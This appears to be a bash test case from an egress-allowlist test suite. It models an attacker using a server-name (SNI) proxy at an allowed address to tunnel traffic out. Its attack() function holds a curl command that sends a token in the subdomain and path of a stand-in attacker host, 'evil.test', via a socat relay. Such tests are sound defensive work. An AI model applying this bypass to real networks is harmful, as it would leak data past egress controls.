# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
# A proxy at an allowed address carries a connection wherever its server name says.
title='A server-name proxy at an allowed address, told the name of the attacker' origin='RESEARCH §2.56; bamsoftware.com sniproxy study'
reason=not_in_allowlist extra=(tls://chain0.test:4430)
prepare() { start "$T/sniproxy" s socat TCP-LISTEN:4430,fork,reuseaddr TCP:198.18.3.66:443; }
attack() {
    eventually 15 h s sh -c 'ss -Hltn sport = 4430 | grep -q .'
    client sh -c 'getent ahosts chain0.test > /dev/null; curl -4 -sk --max-time 20 --resolve "$1.evil.test:4430:198.18.2.81" "https://$1.evil.test:4430/$1"' sh "$1"
}
